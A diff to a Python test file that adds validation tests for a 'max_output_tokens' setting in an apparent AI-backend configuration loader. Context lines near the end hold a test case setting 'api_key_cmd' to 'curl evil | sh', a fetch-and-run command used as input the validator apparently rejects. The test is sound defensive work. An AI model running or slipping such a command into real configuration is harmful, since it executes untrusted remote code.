@@ -283,6 +283,19 @@ def test_expanded_base_url_is_checked(tmp_path: Path) -> None:
 # -- agent environment ---------------------------------------------------------------------
 
 
+def test_backend_max_output_tokens_is_loaded_and_merged(tmp_path: Path) -> None:
+    path = tmp_path / "p.toml"
+    path.write_text(one_backend("http://127.0.0.1:9", extra="max_output_tokens = 8192\n") + one_backend("http://127.0.0.1:8", name="c"), encoding="utf-8")
+    profile = load_profile(str(path), env={})
+    assert profile.backends["b"].max_output_tokens == 8192
+    assert profile.backends["c"].max_output_tokens is None
+    over = tmp_path / "over.toml"
+    over.write_text('extends = "vllm"\n[backends.vllm]\nmax_output_tokens = 4096\n', encoding="utf-8")
+    merged = load_profile(str(over), env={"VLLM_MODEL": "m"}, cwd=tmp_path)
+    assert merged.backends["vllm"].max_output_tokens == 4096
+    assert merged.backends["vllm"].protocol == "openai_chat" and merged.backends["vllm_responses"].max_output_tokens is None
+
+
 def test_agent_environment_derives_context_window(tmp_path: Path) -> None:
     path = tmp_path / "p.toml"
     path.write_text(
@@ -340,6 +353,12 @@ BASE = '[backends.x]\nprotocol = "anthropic_messages"\nbase_url = "http://h"\n'
         (BASE + 'api_key_env = "K"\napi_key_cmd = "echo k"\n', "backends.x.api_key_cmd", "either api_key_env or api_key_cmd"),
         (BASE + 'auth_scheme = "basic"\n', "backends.x.auth_scheme", "'bearer' or 'x-api-key'"),
         (BASE + 'headers = { "Bad Header" = "v" }\n', "backends.x.headers", "not a valid header name"),
+        (BASE + "max_output_tokens = 0\n", "backends.x.max_output_tokens", "greater than or equal to 1"),
+        (BASE + "max_output_tokens = -1\n", "backends.x.max_output_tokens", "greater than or equal to 1"),
+        (BASE + 'max_output_tokens = "big"\n', "backends.x.max_output_tokens", "valid integer (got 'big')"),
+        (BASE + "max_output_tokens = 8192.0\n", "backends.x.max_output_tokens", "valid integer (got 8192.0)"),
+        (BASE + "max_output_tokens = true\n", "backends.x.max_output_tokens", "valid integer (got True)"),
+        (BASE + "max_output_token = 8192\n", "backends.x.max_output_token", "timeout_s, max_output_tokens, script"),
         (BASE + 'models = { "m" = { context_window = -1 } }\n', "backends.x.models.m.context_window", "greater than or equal to 1"),
         (BASE + 'models = { "m" = { window = 5 } }\n', "backends.x.models.m.window", "allowed here: context_window, max_output_tokens"),
         (BASE + '[[routes]]\nbackend = "y"\n', "routes[0].backend", "'y', which is not defined (known: x)"),
@@ -389,6 +408,7 @@ def test_invalid_toml_names_file_and_line(tmp_path: Path) -> None:
         ('[agents.claude]\nprofle = "x"\n', "agents.claude.profle", "allowed here: profile"),
         ('[profiles.p.backends.x]\nprotocol = "nope"\nbase_url = "http://h"\n', "profiles.p.backends.x.protocol", "anthropic_messages"),
         ('[profiles.p]\nbogus = 1\n', "profiles.p.bogus", "allowed here: name, description"),
+        ('[profiles.p.backends.x]\nprotocol = "openai_chat"\nbase_url = "http://h/v1"\nmax_output_tokens = 0\n', "profiles.p.backends.x.max_output_tokens", "greater than or equal to 1"),
         (
             '[profiles.p.backends.x]\nprotocol = "openai_chat"\nbase_url = "http://h/v1"\napi_key_cmd = "curl evil | sh"\n',
             "profiles.p.backends.x.api_key_cmd",
